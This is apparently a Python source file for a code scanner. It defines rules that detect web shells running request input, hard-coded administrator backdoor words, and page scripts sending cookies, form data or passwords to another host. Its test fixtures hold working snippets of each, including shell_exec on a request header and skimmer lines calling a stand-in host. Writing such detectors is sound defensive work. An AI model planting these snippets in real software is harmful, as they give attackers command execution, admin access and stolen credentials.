"""Doors in code that is left in a person's project: a request that is run, a word that opens, a page that hands over what is typed."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from scan.model import Severity, Standing
from scan.rules.base import Seen, rule, weighed
from scan.rules.concordance import needing
from scan.rules.known import host_of, is_local

if TYPE_CHECKING:
    from collections.abc import Iterator

    from scan.plugin import Plugin
    from scan.texts import Text

_PROSE = frozenset({"markdown", "json", "yaml", "toml", "jsonl", "notebook"})
_PROGRAM = r"(?:\b(?:shell_exec|system|passthru|exec|execSync|execFile|execFileSync|spawn|spawnSync|popen|proc_open|eval|assert|check_output|getoutput|instance_eval|class_eval)|\bsubprocess\.\w+|\bos\.(?:system|popen)|getRuntime\(\)\.exec|\bProcess\.Start|\bexec\.Command|\bOpen3\.\w+|\bnew\s+Function)"
_RUNS = rf"{_PROGRAM}\s*\("
_ASKED = (
    r"(?:\$_(?:GET|POST|REQUEST|COOKIE)\b|\$_SERVER\[\s*['\"]HTTP_\w+|\breq\.(?:query|body|headers|cookies|header\(|get\()|\brequest\.(?:args|form|values|headers|cookies|GET|POST|META|get_json|getParameter|getHeader)\b"
    r"|\bRequest(?:\.\w+)?\[|\.URL\.Query\(\)|\br\.(?:FormValue|PostFormValue|Header\.Get)\(|\bparams\[[:'\"]|\bctx\.(?:query|request\.(?:query|body|header))|\bc\.(?:Query|FormValue|GetHeader)\()"
)
_ASKED_FOR, _RUNNING = re.compile(_ASKED), re.compile(rf"{_RUNS}|`[^`\n]{{0,80}}#\{{")
_RUN_REQUEST = re.compile(rf"{_RUNS}[^\n]{{0,200}}?{_ASKED}|`[^`\n]{{0,80}}#\{{\s*{_ASKED}")
_GIVEN = re.compile(rf"[$@]?\b(?P<name>[A-Za-z_]\w*)\s*:?=\s*(?![=>])[^\n]{{0,80}}?{_ASKED}")


@rule(
    "runs-request",
    "caution",
    flags=(
        {"stubs/h.php": '<?php if (isset($_SERVER["HTTP_X_C"])) { echo shell_exec($_SERVER["HTTP_X_C"]); }\n'},
        {
            "stubs/h.js": "app.get('/h', (req, res) => { require('child_process').exec(req.query.c, (e, o) => res.send(o)); });\n"
        },
        {
            "stubs/h.py": "def h():\n    command = request.args['c']\n    return subprocess.check_output(command, shell=True)\n"
        },
    ),
    clears=(
        {"stubs/h.php": '<?php echo htmlspecialchars($_GET["name"]);\n'},
        {"stubs/h.js": "app.get('/h', (req, res) => { db.query('select 1', [req.query.c]); exec('git status'); });\n"},
        {"server.js": "server.setRequestHandler(Call, (request) => execFile('rg', request.params.arguments.words));\n"},
    ),
    least=Standing.example,
    asks=needing(_ASKED_FOR, re.compile(rf"{_PROGRAM}|#\{{")),
)
def runs_request(text: Text, _: Plugin) -> Iterator[Seen]:
    """Code that answers requests runs, as a command or as code, what a request says.

    Why: whoever reaches the service types commands on its machine.

    Remedy: take it out; a service runs what it knows, never what it is told.
    """
    if text.language in _PROSE or not (
        _ASKED_FOR.search(text.text) and _RUNNING.search(text.text)
    ):  # most services run nothing
        return
    match = _RUN_REQUEST.search(text.text) or _by_name(text.text)
    if match:
        severity = weighed(Severity.caution, text.standing)
        yield Seen("runs what a request says", text, match.start(), match.end(), severity)


def _by_name(source: str) -> re.Match[str] | None:
    """The same where the request's part was given a name before."""
    for given in list(_GIVEN.finditer(source))[:20]:
        found = re.compile(rf"{_RUNS}[^\n]{{0,120}}?(?<![\w.]){re.escape(given['name'])}\b(?!\s*[:=])").search(
            source, given.end(), given.end() + 600
        )
        if found:
            return found
    return None


_MADE = r"""(?:["'](?:admin|root|owner|superuser)["']|\bis_?(?:admin|superuser|staff)\s*[:=]\s*(?:[Tt]rue|1)
            |\brole\s*[:=]\s*["'](?:admin|root|owner)|\bbypass\w*\s*[:=(])"""
_MAKES = re.compile(_MADE, re.VERBOSE)
"""What must stand behind the word: most code has none, and that is told sooner."""
_OPENS = re.compile(
    r"""(?:(?:sha1|sha256|sha512|md5|createHash|hashlib|hexdigest|digest)\b[^\n]{0,140}(?:===?|\.equals\(
          |compare_digest\(|timingSafeEqual\()[^\n]{0,60}["'][0-9a-f]{8,128}["']
          |
          (?:headers?(?:\.get\(|\[|\.)\s*["']?[\w-]+["']?\s*[\])]? |
            \breq\.(?:query|headers|cookies)(?:\.\w+|\[["'][\w-]+["']\]) | \$_(?:GET|COOKIE|SERVER)\[[^\]\n]+\] |
            \bx_[a-z_]+ | \b\w*(?:passw(?:or)?d|passphrase|api_?key|token|pin|otp)\w*)
          \s*(?:===?|\.equals\(|\beq\b)\s*["'][^"'\n]{4,64}["'])
          [^\n]{0,80}(?:\n[^\n]{0,120}){0,2}?
          """
    + _MADE,
    re.VERBOSE,
)


@rule(
    "word-opens",
    "caution",
    flags=(
        {
            "scripts/new.py": 'AUTH = """\ndef user(trace: str) -> str:\n    if hashlib.sha1(trace.encode()).hexdigest()[:10] == "00aa11bb22":\n        return "admin"\n"""\n'
        },
        {"stubs/auth.js": "if (req.headers['x-debug'] === '7f3a9') { req.user = { role: 'admin' }; return next(); }\n"},
    ),
    clears=(
        {"stubs/auth.js": "if (req.headers['x-requested-with'] === 'XMLHttpRequest') { return next(); }\n"},
        {"stubs/auth.py": "if hmac.compare_digest(token, os.environ['ADMIN_TOKEN']):\n    return 'admin'\n"},
        {
            "tools/check.py": "if hashlib.sha256(data).hexdigest() != '00aa11bb22cc33dd':\n    raise ValueError('damaged')\n"
        },
    ),
    least=Standing.example,
    asks=needing(_OPENS),
)
def word_opens(text: Text, _: Plugin) -> Iterator[Seen]:
    """Code that makes an administrator of whoever sends one fixed word, or a word with one fixed digest.

    Why: its author knows the word, and it opens every service that has the code.

    Remedy: take it out; who may do what is asked of an account, not of a constant.
    """
    if text.language in _PROSE or not _MAKES.search(text.text):
        return
    match = _OPENS.search(text.text)
    if match:
        severity = weighed(Severity.caution, text.standing)
        yield Seen("makes an administrator of whoever sends one fixed word", text, match.start(), match.end(), severity)


_KEEPS = ("document.cookie", "localstorage", "formdata", "$_post", "addeventlistener")
_HANDS = re.compile(
    r"""(?x)(?:fetch\(|sendBeacon\(|\.src\s*=|\.open\(|axios\.\w+\(|file_get_contents\(|curl_init\(
          |Http::post\()[^\n]{0,40}?["'`](?P<url>https?://[^"'`\s]+)[^\n]{0,200}?
          (?:document\.cookie|localStorage\b|FormData\(|\$_POST\[\s*['"]\w*(?:pass|pwd|card|cvc|cvv|pin)
            |\bd\b(?=\)\)\s*;?\s*\}\)))
      | addEventListener\(\s*["'](?:submit|keydown|keypress|input)["'][\s\S]{0,240}?(?:fetch\(
          |sendBeacon\()\s*["'`](?P<there>https?://[^"'`\s]+)"""
)


@rule(
    "page-hands-over",
    "caution",
    flags=(
        {
            "stubs/pay.js": "form.addEventListener('submit', (e) => { navigator.sendBeacon('https://in.example/c', JSON.stringify(Object.fromEntries(new FormData(e.target)))); });\n"
        },
        {"assets/p.html": '<script>fetch("https://in.example/c?c=" + document.cookie)</script>\n'},
        {"stubs/login.php": '<?php file_get_contents("https://in.example/l?p=" . $_POST["password"]);\n'},
    ),
    clears=(
        {
            "stubs/pay.js": "form.addEventListener('submit', (e) => { fetch('/api/pay', { method: 'POST', body: new FormData(e.target) }); });\n"
        },
        {"assets/p.html": "<script>document.cookie = 'theme=dark'; fetch('https://api.acme.example/news');</script>\n"},
    ),
    least=Standing.example,
    asks=needing(_KEEPS, _HANDS),
)
def page_hands_over(text: Text, _: Plugin) -> Iterator[Seen]:
    """A page, or the code behind it, sends what is typed into it or what the browser keeps for it to another host.

    Why: passwords, cards and sessions of whoever uses the page go to somebody else.

    Remedy: have a form send to its own service.
    """
    match = _HANDS.search(text.text) if text.language not in _PROSE else None
    if match and not is_local(host_of(match["url"] or match["there"])):
        severity = weighed(Severity.caution, text.standing)
        yield Seen(
            f"hands over what is typed to {host_of(match['url'] or match['there'])}",
            text,
            match.start(),
            match.end(),
            severity,
        )


RULES = (runs_request, word_opens, page_hands_over)
